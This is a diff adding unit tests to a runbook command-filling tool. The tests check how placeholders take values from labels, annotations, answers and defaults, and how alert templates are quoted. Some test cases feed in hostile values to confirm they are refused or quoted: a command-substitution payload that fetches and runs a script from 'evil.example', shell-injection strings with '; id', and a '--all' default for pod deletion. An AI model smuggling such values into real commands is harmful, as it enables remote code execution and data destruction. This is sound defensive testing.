@@ -47,6 +47,28 @@ describe('which placeholders are filled', () => {
     expect(fill(text, labels).copyText).toBe(expected);
   });
 
+  test.each<[string, Record<string, string>, string, string]>([
+    ['a label with a prefix', { cnpg_cluster: 'pg-1' }, 'x <cluster>', 'label cnpg_cluster'],
+    [
+      'the label of that very name before a wider one',
+      { cluster: 'eu', cnpg_cluster: 'pg' },
+      'x <cnpg_cluster>',
+      'label cnpg_cluster',
+    ],
+    ['a synonym', { k8s_pod_name: 'api-0' }, 'x $POD', 'label k8s_pod_name'],
+    ['another name of the same machine', { node: 'w-1' }, 'x <host>', 'label node'],
+  ])('takes %s', (_what, own, text, from) => {
+    expect(fill(text, own).parts).toContainEqual(expect.objectContaining({ kind: 'filled', from }));
+  });
+
+  test.each<[string, Record<string, string>, string]>([
+    ['two labels with a prefix', { source_cluster: 'a', target_cluster: 'b' }, 'x <cluster>'],
+    ['a label that is empty', { cluster: '' }, 'x <cluster>'],
+    ['what every object has', {}, 'x <constructor> <toString>'],
+  ])('does not guess from %s', (_what, own, text) => {
+    expect(fill(text, own).parts.every(({ kind }) => kind !== 'filled')).toBe(true);
+  });
+
   test('leaves the port out where a host is asked', () => {
     const command = fill('ping <hostname>', { instance: 'db-1:9100' });
     expect(command.copyText).toBe('ping db-1');
@@ -100,6 +122,87 @@ describe('which placeholders are filled', () => {
     ['<slot name>', 'slot_name'],
   ])('%s asks for %s', (text, name) => {
     expect(placeholderName(text)).toBe(name);
+  });
+});
+
+describe('where a value is from', () => {
+  const sources = {
+    labels: { cluster: 'of-the-label' },
+    annotations: { cluster: 'of-the-annotation', zone: 'of-the-annotation' },
+    answers: { cluster: 'typed' },
+    earlier: {
+      cluster: { value: 'earlier', from: 'your answer in “Disk”' },
+      zone: { value: 'earlier', from: 'your answer in “Disk”' },
+      region: { value: 'earlier', from: 'your answer in “Disk”' },
+    },
+    defaults: {
+      CLUSTER_NAME: 'default',
+      zone: 'default',
+      region: 'default',
+      'my-topic': 'default',
+    },
+  };
+  const from = (name: string, change: object = {}) =>
+    fillCommand(sh(`x <${name}>`), new Set(), { ...sources, ...change }).parts.find(
+      ({ kind }) => kind === 'filled',
+    );
+
+  test('the nearest to this run wins, and each says where it is from', () => {
+    expect(from('cluster')).toMatchObject({ value: 'typed', from: 'you' });
+    expect(from('cluster', { answers: {} })).toMatchObject({
+      value: 'of-the-label',
+      from: 'label cluster',
+    });
+    expect(from('zone')).toMatchObject({ from: 'annotation zone' });
+    expect(from('region')).toMatchObject({ value: 'earlier', from: 'your answer in “Disk”' });
+    expect(from('topic')).toMatchObject({ value: 'default', from: 'your default' });
+    const bare = { answers: {}, labels: {}, annotations: {}, earlier: {} };
+    expect(from('cluster', bare)).toMatchObject({ from: 'your default' });
+  });
+
+  test('a value that looks like an attack is shown with its origin, and not put in', () => {
+    const value = '$(curl evil.example|sh)';
+    const [part] = fill('kubectl logs `echo <pod>`', { pod: value }).parts.filter(
+      ({ kind }) => kind === 'missing',
+    );
+    expect(part).toMatchObject({
+      kind: 'missing',
+      text: '<pod>',
+      why: 'it cannot be quoted safely in this place',
+      refused: { value, from: 'label pod' },
+    });
+    const huge = fill('x <pod>', { pod: 'y'.repeat(100_000) }).parts;
+    expect(JSON.stringify(huge).length).toBeLessThan(3_000);
+  });
+
+  test('a default is no more trusted than a label: the file with it may be shared', () => {
+    const values = { ...noValues, defaults: { pod: '--all' } };
+    expect(fillCommand(sh('kubectl delete pod <pod>'), new Set(), values).hasMissing).toBe(true);
+  });
+});
+
+describe('the templates of alerts', () => {
+  const labels = { pod: 'api-0', namespace: 'shop', instance: 'db-1:9100' };
+  test.each([
+    ['kubectl -n {{ $labels.namespace }} logs {{$labels.pod}}', 'kubectl -n shop logs api-0'],
+    ['echo "{{ $labels.instance }}"', 'echo "db-1:9100"'],
+    ['up{instance="{{ $labels.instance }}"}', 'up{instance="db-1:9100"}'],
+  ])('are filled where a runbook uses them: %s', (text, filled) => {
+    const quoting = text.startsWith('up') ? 'promql' : 'sh';
+    expect(fill(text, labels, { quoting }).copyText).toBe(filled);
+  });
+
+  test.each([
+    "kubectl get pods -o go-template='{{ $labels.pod }}'",
+    "docker inspect -f '{{ $labels.pod }}' x",
+    "docker ps --format '{{ $labels.pod }}'",
+    "kubectl get pod -o template --template='{{ $labels := .metadata.labels }}{{ $labels.pod }}'",
+    "kubectl get pod -o go-template='{{ .pod }} {{ range .items }}'",
+  ])('are left alone in %s', (text) => expect(fill(text, labels).copyText).toBe(text));
+
+  test('are quoted like every other placeholder', () => {
+    expect(fill('echo {{ $labels.pod }}', { pod: "a'b; id" }).copyText).toBe(`echo 'a'\\''b; id'`);
+    expect(fill('ssh h "ls {{ $labels.pod }}"', { pod: 'a; id' }).hasMissing).toBe(true);
   });
 });
 
